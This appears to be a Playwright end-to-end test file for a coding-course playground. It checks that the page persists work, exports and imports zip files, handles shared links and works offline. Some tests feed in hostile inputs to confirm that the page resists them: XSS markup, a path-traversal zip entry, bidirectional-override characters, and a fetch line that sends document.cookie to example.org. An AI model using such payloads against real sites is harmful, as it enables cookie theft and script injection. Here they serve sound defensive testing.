import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { unzipSync, zipSync } from 'fflate';
import type { Browser, BrowserContext, BrowserContextOptions, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSite } from '../../playground/site/build-site.ts';
import { linkOf, openLink } from '../../playground/src/work/link.ts';
import { FETCHED_AHEAD, launch, NOTHING_FETCHED_AHEAD } from '../pages/browser.ts';
import { COURSE_ROOT } from '../this-course.ts';
import { write } from './learner-at-work.ts';
import { openSite, type Site } from './site.ts';

const EXERCISE = '04-lasso/01-soft-threshold';
const OTHER = '01-gradients/01-numerical-gradient';
const UNTOUCHED = '06-optimizers/01-weight-decay';
/** Milliseconds: longer than the page waits for a worker that stays silent before it asks another one. */
const PATIENCE = 50_000;
const CHOSEN = [OTHER, UNTOUCHED, EXERCISE];
const RIGHT = readFileSync(join(COURSE_ROOT, 'solutions', `${EXERCISE}.ts`), 'utf8');
const WRONG = `export function softThreshold(x: number[], threshold: number): number[] {
  return x.map((xi) => Math.sign(xi) * Math.abs(xi - threshold));
}
`;
const STARTING = 120_000;

let site: Site;
let browser: Browser;
const folder = mkdtempSync(join(tmpdir(), 'gradlings-work-'));

beforeAll(async () => {
  site = await openSite({ exercises: CHOSEN });
  browser = await launch();
}, STARTING);

afterAll(async () => {
  await browser?.close();
  site?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** One browser of one person. */
async function someone(
  run: (context: BrowserContext) => Promise<void>,
  options: BrowserContextOptions = {},
): Promise<void> {
  const context = await browser.newContext({ acceptDownloads: true, ...NOTHING_FETCHED_AHEAD, ...options });
  try {
    await run(context);
  } finally {
    await context.close();
  }
}

/** A tab at an exercise. */
async function at(context: BrowserContext, exercise: string, page?: Page): Promise<Page> {
  const tab = page ?? (await context.newPage());
  const anchor = exercise.replaceAll('/', '-');
  await tab.goto(`${site.address}#${anchor}`);
  // The editor of the exercise before is there until this one is loaded.
  await tab.locator(`[id="${anchor}"] .cm-content`).waitFor();
  return tab;
}

/** Waits for a verdict that begins so, and says it in full. */
async function verdict(page: Page, begins: string | RegExp): Promise<string> {
  const summary = page.locator('.summary', { hasText: begins });
  await summary.waitFor({ timeout: PATIENCE });
  return (await summary.textContent()) ?? '';
}
const notice = (page: Page, words: string | RegExp) => page.locator('.notice', { hasText: words }).waitFor();

/** What is written in the editor; it draws only the lines that are seen, so its text is asked for. */
async function written(page: Page): Promise<string> {
  const lines = await page.locator('.cm-content .cm-line').allTextContents();
  return lines.join('\n');
}

async function exported(page: Page): Promise<Uint8Array<ArrayBuffer>> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Export' }).click(),
  ]);
  const path = join(folder, download.suggestedFilename());
  await download.saveAs(path);
  return new Uint8Array(readFileSync(path));
}

const choose = (page: Page, archive: Uint8Array) =>
  page
    .locator('input[type=file]')
    .setInputFiles({ name: 'work.zip', mimeType: 'application/zip', buffer: Buffer.from(archive) });

describe('work in the browser', () => {
  it('is there after a reload, with its verdict', () =>
    someone(async (context) => {
      const page = await at(context, EXERCISE);
      await write(page, RIGHT);
      await verdict(page, 'Upheld:');
      await page.reload();
      await page.locator('.cm-content').waitFor();
      expect(RIGHT).toContain(await written(page));
      expect(await page.locator('.map .upheld, .map [data-status=upheld]').count()).toBeGreaterThan(0);
    }));

  it('in one tab shows in another one', () =>
    someone(async (context) => {
      const [here, there] = [await at(context, EXERCISE), await at(context, EXERCISE)];
      await write(here, '// from the first tab');
      await there.locator('.cm-content', { hasText: '// from the first tab' }).waitFor();
      await write(there, '// and from the second');
      await here.locator('.cm-content', { hasText: '// and from the second' }).waitFor();
      expect(await here.locator('.work-versions').isVisible()).toBe(false);
    }));

  it('that does not fit is told, stays in the tab and can be exported', () =>
    someone(async (context) => {
      const page = await at(context, EXERCISE);
      await page.evaluate(`(() => {
        for (let size = 1 << 20; size >= 1; size = Math.floor(size / 2))
          for (let n = 0; ; n++) {
            try { localStorage.setItem('filler ' + size + ' ' + n, 'x'.repeat(size)); } catch { break; }
          }
      })()`);
      await write(page, WRONG);
      await notice(page, "The browser's storage is full");
      const files = unzipSync(await exported(page));
      expect(Buffer.from(files[`gradlings-work/exercises/${EXERCISE}.ts`]).toString()).toBe(WRONG);
    }));

  it('comes back after it was begun again', () =>
    someone(async (context) => {
      const page = await at(context, EXERCISE);
      await write(page, WRONG);
      await verdict(page, 'Refuted:');
      await page.locator('.reset').click();
      await page.locator('.cm-content', { hasText: 'Not started' }).waitFor();
      await page.getByText('Earlier versions (1)').click();
      await page.getByRole('button', { name: 'Bring back' }).click();
      await page.locator('.cm-content', { hasText: 'Math.abs(xi - threshold)' }).waitFor();
    }));
});

describe('an export', () => {
  it(
    'is graded in a terminal as in the page',
    () =>
      someone(async (context) => {
        const page = await at(context, EXERCISE);
        await write(page, WRONG);
        const refuted = await verdict(page, 'Refuted:');
        await at(context, OTHER, page);
        await write(page, readFileSync(join(COURSE_ROOT, 'solutions', `${OTHER}.ts`), 'utf8'));
        const upheld = await verdict(page, 'Upheld:');

        const place = join(folder, 'unpacked');
        for (const [path, bytes] of Object.entries(unzipSync(await exported(page)))) {
          mkdirSync(dirname(join(place, path)), { recursive: true });
          writeFileSync(join(place, path), bytes);
        }
        const lines = await gradlings(
          join(place, 'gradlings-work'),
          'test',
          'soft-threshold',
          'numerical',
          'weight-decay',
        );
        const told = (id: string) => lines.split('\n').find((line) => line.includes(id)) ?? '';
        expect(told(EXERCISE)).toMatch(/^✗/);
        expect(refuted).toContain(told(EXERCISE).match(/\d+ of \d+ laws upheld/)?.[0]);
        expect(told(OTHER)).toMatch(/^✓/);
        expect(upheld).toContain(`all ${told(OTHER).match(/(\d+) of \1 laws upheld/)?.[1]} laws`);
        expect(told(UNTOUCHED)).toContain('not started');
      }),
    STARTING,
  );

  it('comes in again elsewhere, and the text that was there can be brought back', async () => {
    let archive = new Uint8Array();
    await someone(async (context) => {
      const page = await at(context, EXERCISE);
      await write(page, RIGHT);
      archive = await exported(page);
    });
    await someone(async (context) => {
      const page = await at(context, EXERCISE);
      await write(page, '// what was here');
      await choose(page, archive);
      await notice(page, 'Imported 1 exercise. The texts that were here are kept as earlier versions.');
      await verdict(page, 'Upheld:');
      await page.getByText('Earlier versions (1)').click();
      await page.getByRole('button', { name: 'Bring back' }).click();
      await page.locator('.cm-content', { hasText: '// what was here' }).waitFor();
    });
  });

  it('that is no zip changes nothing, and is told', () =>
    someone(async (context) => {
      const page = await at(context, EXERCISE);
      await write(page, '// mine');
      await choose(page, Buffer.from('<script>alert(1)</script>'));
      await notice(page, 'Nothing was imported. It is not a zip archive, or it is damaged.');
      expect(await written(page)).toBe('// mine');
    }));

  it('that is hostile brings no names and no code onto the page', () =>
    someone(async (context) => {
      const page = await at(context, EXERCISE);
      const name = `<img src=x onerror=alert(1)>/exercises/${EXERCISE}.ts`;
      await choose(
        page,
        zipSync({ [name]: new Uint8Array(1 << 20), [`../../${EXERCISE}.ts`]: Buffer.from('x') }),
      );
      await notice(page, `${EXERCISE} was left out: an exercise has at most 64 kB.`);
      expect(await page.locator('img').count()).toBe(0);
    }));
});

describe('a link', () => {
  /** Opens it as somebody who has written something of their own. */
  async function opened(context: BrowserContext, fragment: string): Promise<Page> {
    const page = await at(context, EXERCISE);
    await write(page, '// my own');
    await page.goto('about:blank');
    await page.goto(site.address + fragment);
    return page;
  }

  it('is made of the code of the exercise', () =>
    someone(async (context) => {
      const page = await at(context, EXERCISE);
      await write(page, WRONG);
      await page.getByRole('button', { name: 'Copy link' }).click();
      const address = await page.locator('.work-link').inputValue();
      expect(address.startsWith(`${site.address}#`)).toBe(true);
      expect(await openLink(new URL(address).hash, CHOSEN)).toEqual({ exercise: EXERCISE, text: WRONG });
    }));

  it('is shown, run only when asked, and leaves the own text as it is', () =>
    someone(async (context) => {
      const page = await opened(context, (await linkOf(EXERCISE, WRONG)) ?? '');
      await page.locator('.cm-content', { hasText: 'Math.abs(xi - threshold)' }).waitFor();
      // Longer than the pause after which own text is graded.
      await page.waitForTimeout(1000);
      expect(await page.locator('.summary').textContent()).not.toMatch(/Refuted|Upheld/);
      await page.getByRole('button', { name: 'Check' }).click();
      await verdict(page, 'Refuted:');
      await page.getByRole('button', { name: 'Show my own text' }).click();
      expect(await written(page)).toBe('// my own');
      await page.reload();
      await page.locator('.cm-content', { hasText: '// my own' }).waitFor();
    }));

  it('can be kept: then the own text is an earlier version', () =>
    someone(async (context) => {
      const page = await opened(context, (await linkOf(EXERCISE, WRONG)) ?? '');
      await page.getByRole('button', { name: 'Go on with this one' }).click();
      await verdict(page, 'Refuted:');
      await page.getByText('Earlier versions (1)').click();
      await page.reload();
      await page.locator('.cm-content', { hasText: 'Math.abs(xi - threshold)' }).waitFor();
    }));

  it('that was cut is refused in a sentence', () =>
    someone(async (context) => {
      const page = await opened(context, ((await linkOf(EXERCISE, WRONG)) ?? '').slice(0, -9));
      await notice(page, 'The link is incomplete or was changed on its way.');
    }));

  it('with letters that turn others around shows them', () =>
    someone(async (context) => {
      const text = 'const isAdmin = false; /* \u202e } \u2066 if (isAdmin) \u2069 */';
      const page = await opened(context, (await linkOf(EXERCISE, text)) ?? '');
      await page.locator('.cm-specialChar').first().waitFor();
      expect(await page.locator('.cm-specialChar').count()).toBe(3);
    }));

  it.each([
    ['markup', '</script><img src=x onerror="document.title=1"><script>document.title=1</script>'],
    ['an endless loop', 'for (;;);'],
    ['a request', 'fetch("https://example.org/?" + document.cookie); localStorage.clear();'],
  ])('with %s does nothing when it is opened, and no harm when it is run', (_, text) =>
    someone(async (context) => {
      const requests: string[] = [];
      const page = await opened(context, (await linkOf(EXERCISE, text)) ?? '');
      page.on('request', (request) => {
        if (!request.url().startsWith(site.address)) requests.push(request.url());
      });
      await page.locator('.cm-content', { hasText: text.slice(0, 8) }).waitFor();
      await page.getByRole('button', { name: 'Check' }).click();
      await verdict(page, /^Refuted:|^The file cannot be loaded yet/);
      expect(requests.filter((url) => /^https?:/.test(url))).toEqual([]);
      expect(await page.title()).not.toBe('1');
      await page.getByRole('button', { name: 'Show my own text' }).click();
      expect(await written(page)).toBe('// my own');
    }),
  );
});

describe('without a network', () => {
  it('a part that cannot be loaded is told, with what to do', () =>
    someone(
      async (context) => {
        const page = await at(context, EXERCISE);
        await context.setOffline(true);
        await page.evaluate(`location.hash = '#${OTHER.replaceAll('/', '-')}'`);
        await notice(page, 'A part of the page could not be loaded');
      },
      // As on plain http.
      NOTHING_FETCHED_AHEAD,
    ));

  it('a page that was visited opens, grades and keeps', () =>
    someone(async (context) => {
      const page = await at(context, EXERCISE);
      await page.waitForFunction('navigator.serviceWorker.controller !== null');
      await context.setOffline(true);
      await page.reload();
      await write(page, RIGHT);
      await verdict(page, 'Upheld:');
      await page.reload();
      await verdict(page, 'Upheld:');
    }, FETCHED_AHEAD));

  it(
    'a new version waits until it is asked for, and all work stays',
    async () => {
      const own = await openSite({ exercises: [EXERCISE] });
      try {
        await someone(async (context) => {
          const page = await context.newPage();
          await page.goto(`${own.address}#${EXERCISE.replaceAll('/', '-')}`);
          await page.waitForFunction('navigator.serviceWorker.controller !== null');
          await write(page, '// kept');
          await buildSite({ root: COURSE_ROOT, exercises: [EXERCISE, OTHER], outDir: own.folder });
          await page.reload();
          await page.getByText('There is a new version of the course.').waitFor();
          expect(await page.locator('.map a', { hasText: 'Numerical' }).count()).toBe(0);
          await page.getByRole('button', { name: 'Load it' }).click();
          await page.locator('.map a', { hasText: 'Numerical' }).first().waitFor();
          await page.locator('.cm-content', { hasText: '// kept' }).waitFor();
        }, FETCHED_AHEAD);
      } finally {
        own.close();
      }
    },
    STARTING,
  );
});

/** As `npx gradlings` does in that folder: it prints, and may end with a code. */
async function gradlings(cwd: string, ...args: string[]): Promise<string> {
  const env = { ...process.env, NO_COLOR: '1', FORCE_COLOR: '0' };
  const program = join(COURSE_ROOT, 'harness', 'cli', 'gradlings.mjs');
  return promisify(execFile)(process.execPath, [program, ...args], { cwd, env }).then(
    ({ stdout }) => stdout,
    ({ stdout }: { stdout: string }) => stdout,
  );
}
